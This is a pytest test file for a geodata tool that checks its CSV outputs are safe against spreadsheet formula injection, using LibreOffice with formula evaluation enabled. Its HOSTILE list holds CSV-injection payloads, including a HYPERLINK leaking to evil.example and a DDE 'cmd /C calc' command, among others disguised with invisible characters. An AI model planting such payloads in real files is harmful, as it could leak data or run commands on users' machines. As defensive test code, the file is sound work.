"""Every CSV a hostile import leaves behind is spreadsheet-safe (issue 23).

One hostile session through the real command lines (``python -m geodata import`` of ACLED and UCDP files whose
cells start with ``= + - @``, hide the lead behind invisible or full-width characters or a bare CR, then a newer
revision of some rows, then ``python -m dashboard export``) writes the quarantine, the revisions, the admin
differences, the incidents report and an export. Each is read back with Python's csv module and converted by
LibreOffice headless (Debian's ``libreoffice-calc-nogui``, installed by ``make office``) with formula evaluation
on: no cell may be a formula, no record may be split, and no physical line may start like a formula.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest

from geodata import safecsv
from tests.fixtures.commands import geodata

REPO = Path(__file__).resolve().parents[1]
LABELLED = Path(__file__).parent / "fixtures" / "incidents"
SOFFICE_TIMEOUT_S = 300
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","x")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)", "-2+3",
    "\r=1+1", "\r\n=2+2", "Mopti\r=3+3", "Gao\n@SUM(4)", "\u00ad=1+1", "\u061c=1+1", "\u180e=1+1", "\u2060=1+1",
    "\ufeff=1+1", "\u200b\u200e=1+1", "\uff1d1+1", "\uff0bSUM(1,2)", "\uff20SUM(1)", "\uff0d1+1", ' "=1+1',
]
# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, no column types, en-US, quoted
# fields not forced to text, no special numbers, (3 export-only options), all sheets, and *evaluate formulas*.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true"
NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
      "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
LEADS = re.compile(f"^[{safecsv._SKIP}{safecsv.BREAK_CHARS}]*[{safecsv.LEAD_CHARS}]")


NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def starts_like_formula(text: str) -> bool:
    """A lead behind characters a reader may skip, unless our own ``'`` comes first; a plain number (a longitude
    of -1.13, written unquoted) is a number to every spreadsheet, not a formula."""
    return not text.startswith("'") and bool(LEADS.match(text)) and not NUMBER.match(text)


def _hostile(source: Path, out: Path, columns: tuple[str, ...], extra: dict[str, str] | None = None,
             rows: int | None = None, **changes: object) -> Path:
    """A copy of ``source`` whose ``columns`` hold the hostile cells in turn (plus ``extra`` columns)."""
    frame = pd.read_csv(source, dtype=str, keep_default_na=False)
    frame = frame.iloc[: rows or len(frame)].copy()
    for shift, column in enumerate(columns):
        frame[column] = [HOSTILE[(i + shift) % len(HOSTILE)] for i in range(len(frame))]
    for column, value in (extra or {}).items():
        frame[column] = value
    for column, value in changes.items():
        frame[column] = value
    frame.to_csv(out, index=False, quoting=csv.QUOTE_ALL, lineterminator="\n")
    return out


@pytest.fixture(scope="module")
def side_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    store = folder / "events.parquet"
    acled = _hostile(LABELLED / "acled.csv", folder / "acled.csv", ("location", "admin1", "notes", "actor1"),
                     extra={"=cmd|' /C calc'!A0": "=1+1"})
    # A few rows no importer can keep: their hostile cells go to the quarantine.
    broken = pd.read_csv(acled, dtype=str, keep_default_na=False).iloc[:6].copy()
    broken["event_id_cnty"] = [f"BAD{i}" for i in range(len(broken))]
    broken["event_date"] = HOSTILE[:6]
    with acled.open("a", encoding="utf-8", newline="") as handle:
        broken.to_csv(handle, index=False, header=False, quoting=csv.QUOTE_ALL, lineterminator="\n")
    ucdp = _hostile(LABELLED / "ucdp.csv", folder / "ucdp.csv", ("where_description", "source_headline"))
    newer = _hostile(LABELLED / "acled.csv", folder / "acled-newer.csv", ("notes", "location"), rows=8,
                     timestamp="1800000000")
    for kind, path in (("acled", acled), ("ucdp", ucdp), ("acled", newer)):
        result = geodata("import", kind, str(path), "--store", str(store), "--no-progress")
        assert result.returncode == 0, result.stderr
    export = folder / "export.csv"
    result = subprocess.run([sys.executable, "-m", "dashboard", "export", "--store", str(store), "--out", str(export)],
                            cwd=REPO, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    files = {"export": export, **{name: folder / f"events.{name}.csv" for name in
                                  ("quarantine", "revisions", "admin1-disagreements", "incidents")}}
    assert all(path.exists() for path in files.values()), [p.name for p in folder.iterdir()]
    return files


def _records(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), f"{path.name} starts with a BOM"
    return list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


@pytest.mark.parametrize("name", ["export", "quarantine", "revisions", "admin1-disagreements", "incidents"])
def test_each_side_file_reads_back_whole_and_inert_with_python_csv(side_files, name):
    path = side_files[name]
    records = _records(path)
    assert len(records) > 1, f"{path.name} has no rows"
    assert {len(r) for r in records} == {len(records[0])}, f"{path.name}: a record was split or merged"
    cells = [c for r in records for c in r]
    risky = [c for c in cells if starts_like_formula(c)]
    assert not risky, f"{path.name}: cells a spreadsheet would run: {risky[:5]}"
    text = path.read_text(encoding="utf-8")
    lines = [line for line in re.split(f"[{safecsv.BREAK_CHARS}]", text)
             if starts_like_formula(line.lstrip('"').split(",")[0])]
    assert not lines, f"{path.name}: lines that start like a formula: {lines[:5]}"
    if name != "incidents":  # the incidents report names events and datasets, none of the hostile text
        neutralised = [c for c in cells if c.startswith("'")]
        assert len(neutralised) >= 3, f"{path.name}: the hostile cells did not arrive ({neutralised})"


def test_the_hostile_cells_arrive_neutralised_and_whole(side_files):
    """Nothing is lost: the export's locations and the quarantine's dates are the hostile cells, prefixed."""
    export = pd.read_csv(side_files["export"], dtype=str, keep_default_na=False)
    quarantine = pd.read_csv(side_files["quarantine"], dtype=str, keep_default_na=False)
    expected = safecsv.neutralise_text(pd.Series(HOSTILE[:6], dtype="string")).tolist()
    assert quarantine.set_index("event_id_cnty").loc[[f"BAD{i}" for i in range(6)], "event_date"].tolist() == expected
    assert "'=cmd|' /C calc'!A0" in quarantine.columns  # an uploaded file's own header names too
    assert {'\'=HYPERLINK("http://evil.example/?leak","x")', "'+SUM(1,2)", "'@SUM(1)"} <= set(export["location"])


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.fail("LibreOffice is missing: run `make office` (apt-get install libreoffice-calc-nogui); "
                    "the spreadsheet check of the side files cannot run without it")
    return found


def _convert(paths: list[Path], out: Path) -> dict[str, Path]:
    """Each CSV converted by LibreOffice headless to flat ODF (.fods), read with formulas evaluated."""
    profile = out / "profile"
    command = [_soffice(), f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
               f"--infilter={CSV_IMPORT}", "--convert-to", "fods", "--outdir", str(out), *map(str, paths)]
    result = subprocess.run(command, capture_output=True, text=True, timeout=SOFFICE_TIMEOUT_S,
                            env={**os.environ, "HOME": str(out)})
    converted = {p.name: out / (p.stem + ".fods") for p in paths}
    missing = [name for name, target in converted.items() if not target.exists()]
    assert not missing, f"LibreOffice did not convert {missing}: {result.stdout} {result.stderr}"
    return converted


def _sheet(path: Path) -> tuple[int, list[str], int]:
    """(formula cells, their formulas, rows with any text) of the first sheet of a .fods file."""
    root = ET.parse(path).getroot()
    formula_attr = f"{{{NS['table']}}}formula"
    formulas = [cell.get(formula_attr) for cell in root.iter(f"{{{NS['table']}}}table-cell")
                if cell.get(formula_attr)]
    rows = 0
    for row in root.iter(f"{{{NS['table']}}}table-row"):
        if any((p.text or "") or len(p) for p in row.iter(f"{{{NS['text']}}}p")):
            rows += int(row.get(f"{{{NS['table']}}}number-rows-repeated", "1"))
    return len(formulas), formulas, rows


def test_libreoffice_evaluates_no_cell_of_any_side_file(side_files, tmp_path):
    # The control: the same kind of cells written as pandas does by default. LibreOffice must take them for
    # formulas, or this test could not see one in our files either.
    control = tmp_path / "control.csv"
    pd.DataFrame({"a": ["=1+1", "ok", "=SUM(1,2)"], "b": ["x", "=2*3", "y"]}).to_csv(control, index=False)
    sources = [*side_files.values(), control]
    work = tmp_path / "sources"
    work.mkdir()
    copies = []
    for path in sources:  # one folder, distinct names: LibreOffice writes <stem>.fods per input
        copy = work / path.name
        shutil.copyfile(path, copy)
        copies.append(copy)
    converted = _convert(copies, tmp_path / "out")
    count, formulas, _ = _sheet(converted["control.csv"])
    assert count == 3, f"LibreOffice did not evaluate the control's formulas ({formulas}): check CSV_IMPORT"
    for path in side_files.values():
        count, formulas, rows = _sheet(converted[path.name])
        assert count == 0, f"{path.name}: LibreOffice made formulas of {formulas[:5]}"
        assert rows == len(_records(path)), f"{path.name}: LibreOffice read {rows} rows, csv {len(_records(path))}"
